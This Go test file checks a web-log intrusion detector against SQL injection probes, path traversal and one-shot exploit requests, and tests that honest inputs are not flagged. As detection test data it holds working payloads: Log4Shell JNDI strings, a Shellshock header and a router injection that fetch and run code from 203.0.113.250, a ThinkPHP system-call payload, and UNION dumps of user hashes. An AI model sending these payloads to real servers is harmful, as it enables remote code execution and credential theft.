package detect

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"gumshoe/analyze"
	"gumshoe/analyze/judge"
	"gumshoe/ingest"
	"gumshoe/ingest/window"
)

// answer is a web request with what the log says of its answer.
func (l *tape) answer(at time.Duration, src, target string, status uint16, bytes int64, took time.Duration) {
	l.get(at, src, target, status)
	ev := &l.events[len(l.events)-1]
	ev.Bytes, ev.Duration = bytes, int32(took/time.Millisecond)
}

// readers are people who use an endpoint.
func (l *tape) readers(n int, target string, bytes int64, took time.Duration) {
	for i := range n {
		l.answer(time.Duration(i)*6*minute, fmt.Sprintf("198.18.1.%d", 1+i%200), target, 200, bytes+int64(i%9)*37, took)
	}
}

// told returns the case of a kind as the report has it, or fails.
func (l *tape) told(t *testing.T, kind string) analyze.Case {
	t.Helper()
	for _, c := range analyze.Run(l.input(), All(), judge.Rules{}) {
		if c.Kind == kind {
			return c
		}
	}
	t.Fatalf("no case of kind %s among %q", kind, l.accused())
	return analyze.Case{}
}

func (l *tape) untold(t *testing.T, kinds ...string) {
	t.Helper()
	for _, c := range l.cases() {
		if slices.Contains(kinds, c.Kind) {
			t.Errorf("%s is told: %+v", c.Kind, c.Families)
		}
	}
}

// quotes are five steps of a beginner.
var quotes = []string{"1'", "1%22", "1'%20AND%20'1'='1", "1)%20ORDER%20BY%208--", "1%20OR%201=1"}

// Forty parameters of one page, in one hour, and one of them breaks: it is found,
// although more was sent than is kept of an hour, and the endpoint is told too.
func TestOneParameterOfMany(t *testing.T) {
	var l tape
	l.visitors(20)
	for i := range 40 {
		l.readers(4, fmt.Sprintf("/search?f%02d=7", i), 6_000, 0)
	}
	for i := range 40 {
		for k, q := range quotes {
			status := uint16(200)
			if i == 26 {
				status = 500
			}
			l.get(9*hour+time.Duration(5*i+k)*10*time.Second, attacker, fmt.Sprintf("/search?f%02d=%s", i, q), status)
		}
	}
	c := l.find(t, attacker+"/32", "injection", analyze.Critical)
	if c.Impact != analyze.Success {
		t.Errorf("impact %d", c.Impact)
	}
	c = l.told(t, "injectable_endpoint")
	if c.Level != analyze.Critical || len(c.Sources) > 0 || !strings.Contains(c.Headline, "f26 of /search") {
		t.Errorf("%s of %v: %s", c.Level, c.Sources, c.Headline)
	}
}

// Many addresses send a payload each: no single one shows that the page is open.
func TestHoleFoundByMany(t *testing.T) {
	var l tape
	l.visitors(20)
	l.readers(60, "/item?id=7", 6_000, 0)
	for i, q := range append(quotes, "1%20UNION%20SELECT%201,2") {
		l.get(9*hour+time.Duration(i)*20*minute, fmt.Sprintf("203.0.113.%d", 10+i), "/item?id="+q, 500)
	}
	if c := l.told(t, "injectable_endpoint"); len(c.Visitors) != 6 || c.Level < analyze.High {
		t.Errorf("%s, sent by %v", c.Level, c.Visitors)
	}
}

// A server that cannot bear an apostrophe is told, the visitor is not accused.
func TestHoleShownByTheHonest(t *testing.T) {
	var l tape
	l.visitors(20)
	l.readers(60, "/find?name=miller", 6_000, 0)
	for i, name := range []string{"O'Brien", "D'Arcy+and+sons", "L'Or%C3%A9al"} {
		src := fmt.Sprintf("198.18.0.%d", 1+i)
		l.visit(hour, src)
		l.get(9*hour+time.Duration(i)*hour, src, "/find?name="+name, 500)
	}
	l.quiet(t)
}

// The same page, and people whose names it cannot bear: strangers who look for several of
// them, or correct themselves. The page is told, whoever they are.
func TestHoleShownByNames(t *testing.T) {
	var l tape
	l.visitors(20)
	l.readers(60, "/find?name=miller", 6_000, 0)
	for i, names := range [][]string{{"O'Brien", "O'Neill"}, {"d'Arc", "D'Angelo+and+sons", "Dell'Acqua"}, {"O'Hara"}} {
		for k, name := range names {
			l.get(9*hour+time.Duration(3*i)*hour+time.Duration(k)*minute, fmt.Sprintf("203.0.113.%d", 10+i), "/find?name="+name, 500)
		}
	}
	l.quiet(t)
	if c := l.told(t, "injectable_endpoint"); c.Level < analyze.High || len(c.Visitors) != 3 {
		t.Errorf("%s, sent by %v", c.Level, c.Visitors)
	}
}

// A box that makes proposals asks for them with each letter: one name is many requests.
func TestNamesTypedByLetter(t *testing.T) {
	for _, typed := range []string{"o'brien's cups", "it's a mug", "rock 'n' roll", `"blue" cup`, "mother-in-law's"} {
		var l tape
		l.visitors(20)
		for i := range typed {
			l.get(9*hour+time.Duration(i)*time.Second, attacker, "/api/suggest?q="+url.QueryEscape(typed[:i+1]), 200)
		}
		l.quiet(t)
	}
}

// What is confirmed by size or by time, and what only looks like it. The page has
// six kilobytes and takes 80 ms.
func TestProofs(t *testing.T) {
	const wait, dump, passwd = "1%20AND%20SLEEP(5)", "1%20UNION%20SELECT%20login,hash,3%20FROM%20users", "..%2f..%2f..%2f..%2fetc%2fpasswd"
	type reply struct {
		value string
		bytes int64
		took  time.Duration
	}
	const quick, page = 80 * time.Millisecond, 6_100
	for _, c := range []struct {
		what    string
		slow    bool // the page takes six seconds for everybody
		replies []reply
		proven  bool
	}{
		{"waited twice", false, []reply{{wait, page, 5050 * time.Millisecond}, {wait + "--%20-", page, 5100 * time.Millisecond}}, true},
		{"waited nearly as long, by the clock of the server", false, []reply{{wait, page, 4810 * time.Millisecond}, {wait + "--", page, 4990 * time.Millisecond}}, true},
		{"waited once", false, []reply{{wait, page, 5050 * time.Millisecond}, {wait + "--", page, quick}}, false},
		{"did not wait", false, []reply{{wait, page, quick}, {wait + "--", page, quick}}, false},
		{"a slow page", true, []reply{{wait, page, 6 * time.Second}, {wait + "--", page, 6 * time.Second}}, false},
		{"asked for data and got much more", false, []reply{{dump, 90_000, quick}, {"1'%20OR%201=1--%20", 70_000, quick}}, true},
		{"asked for data and got the page", false, []reply{{dump, page, quick}, {"1'%20OR%201=1--%20", page + 200, quick}}, false},
		{"asked for data and got less", false, []reply{{dump, 700, quick}, {"1'%20OR%201=1--%20", 700, quick}}, false},
		{"asked for the file and got it", false, []reply{{passwd, 1_800, quick}, {"1'%20OR%201=1--%20", page, quick}}, true},
		{"asked for the file and got the page", false, []reply{{passwd, page, quick}}, false},
		{"asked for the file and got what everything else gets", false, []reply{{passwd, 1_800, quick}, {"1'%20OR%201=1--%20", 1_810, quick}}, false},
		{"asked for the file and got nothing", false, []reply{{passwd, 200, quick}}, false},
	} {
		t.Run(c.what, func(t *testing.T) {
			var l tape
			l.visitors(20)
			took := quick
			if c.slow {
				took = 6 * time.Second
			}
			l.readers(60, "/item?id=7", 6_000, took)
			for i, r := range c.replies {
				l.answer(9*hour+time.Duration(i)*minute, attacker, "/item?id="+r.value, 200, r.bytes, r.took)
			}
			if !c.proven {
				l.untold(t, "injectable_endpoint")
				return
			}
			if got := l.find(t, attacker+"/32", "injection", analyze.High); got.Impact != analyze.Success {
				t.Errorf("impact %d, %+v", got.Impact, got.Families)
			}
			l.told(t, "injectable_endpoint")
		})
	}
}

// Kendall's tau against small tables worked by hand: S = 15 of 15 pairs, and the
// normal approximation's z = (15-1)/sqrt(6*5*17/18) = 2.63.
func TestKendall(t *testing.T) {
	stages := func(list ...ingest.Stage) (out []shot) {
		for _, s := range list {
			out = append(out, shot{Touch: &window.Touch{Stage: s}})
		}
		return out
	}
	for _, c := range []struct {
		stages []ingest.Stage
		tau, p float64
	}{
		{[]ingest.Stage{0, 1, 2, 3, 4, 5}, 1, .0043},
		{[]ingest.Stage{5, 4, 3, 2, 1, 0}, -1, .9987},
		{[]ingest.Stage{3, 3, 3, 3, 3, 3}, 0, 1},
		{[]ingest.Stage{2, 2, 2, 3, 3, 3}, .775, .0228}, // S = 9 of 15 pairs, var = (510-2*66)/18 = 21
	} {
		tau, p := kendall(stages(c.stages...))
		if diff(tau, c.tau) > .005 || diff(p, c.p) > .02 {
			t.Errorf("%v: tau %.3f, p %.4f, want %.3f and %.4f", c.stages, tau, p, c.tau, c.p)
		}
	}
}

func diff(a, b float64) float64 { return max(a-b, b-a) }

// Exploits that are sent once, by somebody who was shown nothing, are told.
func TestOneShotExploits(t *testing.T) {
	for _, c := range []struct {
		target, agent string
		status        uint16
	}{
		{"/?x=${jndi:ldap://203.0.113.250/a}", firefox, 200},
		{"/", "${jndi:ldap://203.0.113.250/a}", 200},
		{"/", "() { :; }; /bin/bash -c 'wget http://203.0.113.250/x'", 200},
		{"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", firefox, 404},
		{"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget%20http://203.0.113.250/x%20-O-|sh)", "Go-http-client/1.1", 404},
		{"/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", firefox, 404},
		{"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", firefox, 400},
	} {
		t.Run(c.target, func(t *testing.T) {
			var l tape
			l.visitors(20)
			l.ask(9*hour, attacker, "", c.agent, c.target, c.status)
			l.find(t, attacker+"/32", "injection", analyze.Low)
		})
	}
}

// Who is signed in by name and writes about code is nobody's attacker; neither is
// a visitor who pastes one line of it into the search, or quotes phrases.
func TestHonestCode(t *testing.T) {
	code := []string{"%3Cscript%20src=%22/assets/app.js%22%3E%3C/script%3E", "SELECT%20name%20FROM%20roasts%20WHERE%20id=1", "%3Cimg%20src=x%20onerror=%22retry()%22%3E", "cat%20/etc/passwd", "$(ls%20-la)"}
	t.Run("editor", func(t *testing.T) {
		var l tape
		l.visitors(20)
		for d := range 5 {
			for i, v := range code {
				l.ask(time.Duration(d)*day+9*hour+time.Duration(i)*minute, attacker, "ines", firefox, "/cms/preview?text="+v, 200)
			}
		}
		l.quiet(t)
	})
	for _, v := range code {
		t.Run(v, func(t *testing.T) {
			var l tape
			l.visitors(20)
			l.visit(8*hour, attacker)
			l.get(8*hour+10*minute, attacker, "/search?q="+v, 200)
			l.quiet(t)
		})
	}
	t.Run("quoted phrases", func(t *testing.T) {
		var l tape
		l.visitors(20)
		l.visit(8*hour, attacker)
		for i, q := range []string{"%22green+tea%22", "%22black+tea%22+cup", "%22a%22+%22b%22", "%22beans%22+3", "rock+%27n%27+roll", "12%22+pizza", "it's"} {
			l.get(9*hour+time.Duration(i)*minute, attacker, "/search?q="+q, 200)
		}
		l.quiet(t)
	})
}

// One payload with other numbers each time: refused by whatever looks at requests first, or
// sent for the time that the answer takes. A program that is answered well may be anybody's.
func TestOnePayloadAgainAndAgain(t *testing.T) {
	for target, status := range map[string]uint16{"/item?id=1%%27+OR+%d=%d--": 403, "/item?id=1)+AND+SLEEP(5)+AND+(%d=%d": 200} {
		var l tape
		l.visitors(20)
		for i := range 20 {
			l.get(9*hour+time.Duration(i)*minute, attacker, fmt.Sprintf(target, i, i), status)
		}
		l.find(t, attacker+"/32", "injection", analyze.Low)
	}
	var l tape
	l.visitors(20)
	for i := range 20 {
		l.get(9*hour+time.Duration(i)*minute, attacker, fmt.Sprintf("/items?where=1%%27+OR+%d=%d--", i, i), 200)
	}
	l.none(t, attacker+"/32")
}

// One request takes no time, and the story says none.
func TestOneShotHasNoSpan(t *testing.T) {
	for n, want := range map[int]string{1: "sent 1 request with hostile content (", 3: "sent 3 requests with hostile content in 2 minutes ("} {
		var l tape
		l.visitors(20)
		for i := range n {
			l.get(9*hour+time.Duration(i)*minute, attacker, "/search?q=1'+union+select+login,pw+from+users--+", 404)
		}
		if body := strings.Join(l.told(t, "injection").Explanation, " "); !strings.Contains(body, want) {
			t.Errorf("%q lacks %q", body, want)
		}
	}
}
